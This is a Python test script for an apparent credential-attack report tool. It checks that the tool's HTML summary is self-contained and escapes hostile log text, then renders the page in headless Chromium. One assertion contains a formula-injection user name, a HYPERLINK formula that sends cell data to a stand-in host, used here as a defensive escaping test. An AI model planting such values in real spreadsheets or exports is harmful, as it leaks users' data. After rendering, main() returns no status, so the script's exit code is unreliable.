#!/usr/bin/python3
"""badcreds summary --html: one self-contained page (no script, no external resource, a policy forbidding both),
every text from the logs escaped (a user name shaped like a formula or markup stays text), the coverage table first,
the chart and the tables present, a cleared log shown in the coverage and as the first finding; and it renders in headless Chromium (Debian's chromium) to a screenshot.

The page is rendered at a desktop width (1400 px, OUT_PNG) and at a phone's (390 px, OUT_PNG with -phone): its
DOM as Chromium builds it must lead with the verdict naming the compromised account, and the chart must label its
hours. Look at the two screenshots after a change to the page.

usage: html_report.py BADCREDS FIXTURE_DIR OUT_PNG
"""
import re
import html.parser
import os
import shutil
import subprocess
import sys
import tempfile

BADCREDS, FIX, PNG = os.path.abspath(sys.argv[1]), sys.argv[2], sys.argv[3]
FAILURES = []


def check(name, cond):
    print(f'{"ok" if cond else "FAIL"} {name}')
    if not cond:
        FAILURES.append(name)


class Page(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.external, self.text = [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        for k, v in attrs:
            if k in ('src', 'href') or (v and ('http://' in v or 'https://' in v) and k != 'content'):
                self.external.append((tag, k, v))

    def handle_data(self, data):
        self.text.append(data)


def main():
    with tempfile.TemporaryDirectory() as tmp:
        page = os.path.join(tmp, 'summary.html')
        files = [os.path.join(FIX, f) for f in ('ADFS01.evtx', 'ADFS02.evtx', 'ADFS-OLD.evtx', 'DC01.evtx')]
        p = subprocess.run([BADCREDS, 'summary', '-q', '--html', page] + files, stdout=subprocess.DEVNULL, check=False)
        check('summary --html exits 0 and writes the page', p.returncode == 0 and os.path.exists(page))
        doc = open(page, encoding='utf-8').read()
        parsed = Page()
        parsed.feed(doc)
        text = ''.join(parsed.text)
        check('no script and no external resource', 'script' not in parsed.tags and not parsed.external)
        check('a content security policy forbids both', "default-src 'none'" in doc)
        check('the hostile user name is text, escaped', '=HYPERLINK("http://x.example/?"&A1)@contoso.com' in text and
              'HYPERLINK(&quot;' in doc)
        check('chart, findings, the lockouts, the chart\'s figures and both tables', parsed.tags.count('svg') == 1 and
              parsed.tags.count('rect') >= 3 and parsed.tags.count('table') == 5 and 'password_spray' in text and
              'stale_credential' in text and 'Account lockouts' in text and 'jean-luc' in text)
        check('the coverage table first: a row per server and log, AD FS audit level', doc.index('<h2>Coverage') <
              doc.index('<h2>Attempts') and doc.count('<tr><td>') >= 4 and
              '<tr><td>ADFS-OLD.fabrikam.fr</td><td>Security</td>' in doc and '<td>verbose</td>' in doc)
        cleared = os.path.join(tmp, 'cleared.html')
        p = subprocess.run([BADCREDS, 'summary', '-q', '--html', cleared, files[0], os.path.join(FIX, 'COV-FS-CLEARED.evtx')],
                           stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, check=False)
        page2 = open(cleared, encoding='utf-8').read() if os.path.exists(cleared) else ''
        check('a cleared log: in the coverage table and the first finding; the page written, exit 1',
              p.returncode == 1 and b'cleared' in p.stderr and
              'Security by CONTOSO\\mallory</b>' in page2 and
              page2.index('<b>log_cleared</b> FS-CLEARED.contoso.com') < page2.index('<b>brute_force</b>'))
        chromium = shutil.which('chromium')
        if not chromium:
            print('SKIP: chromium is not installed (apt-get install chromium); the page was not rendered')
            return 1 if FAILURES else 77
        for width, png in ((1400, PNG), (390, PNG.replace('.png', '-phone.png'))):
            render(chromium, tmp, page, width, png)


def render(chromium, tmp, page, width, png):
    """A screenshot and the DOM at one window width."""
    base = [chromium, '--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
            '--disable-background-networking', '--disable-component-update', '--disable-sync',
            f'--user-data-dir={os.path.join(tmp, "profile")}', f'--window-size={width},2400']
    r = subprocess.run(base + [f'--screenshot={png}', 'file://' + page], stdout=subprocess.PIPE,
                       stderr=subprocess.PIPE, timeout=120, check=False)
    size = os.path.getsize(png) if os.path.exists(png) else 0
    check(f'headless Chromium renders it at {width} px ({size} bytes of PNG in {png})',
          r.returncode == 0 and size > 20000)
    dom = subprocess.run(base + ['--dump-dom', 'file://' + page], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                         timeout=120, check=False).stdout.decode('utf-8', 'replace')
    verdict = re.search(r'<p class="verdict[^"]*">(.*?)</p>', dom, re.S)
    first_h2 = dom.find('<h2>')
    check(f'{width} px: the verdict comes first and names the compromised account',
          verdict and 'alice@contoso.com' in verdict.group(1) and '1 compromised account' in verdict.group(1) and
          verdict.start() < first_h2)
    ticks = re.findall(r'<text[^>]*class="axis tick"[^>]*>([^<]*)</text>', dom)
    check(f'{width} px: the chart labels its hours ({ticks})', '08:00' in ticks and '09:00' in ticks)
    grid = re.findall(r'class="axis" text-anchor="end">(\d+)</text>', dom)
    check(f'{width} px: the y axis has round steps with grid lines ({grid})', len(grid) >= 3 and grid[0] == '0')
    sev = re.findall(r'<div class="finding (\w+)"', dom)
    rank = ['critical', 'high', 'medium', 'low']
    check(f'{width} px: findings most severe first ({sev})', sev and sev[0] == 'critical' and
          [rank.index(x) for x in sev] == sorted(rank.index(x) for x in sev))
    print(f'{len(FAILURES)} failures')
    return 1 if FAILURES else 0


if __name__ == '__main__':
    sys.exit(main())
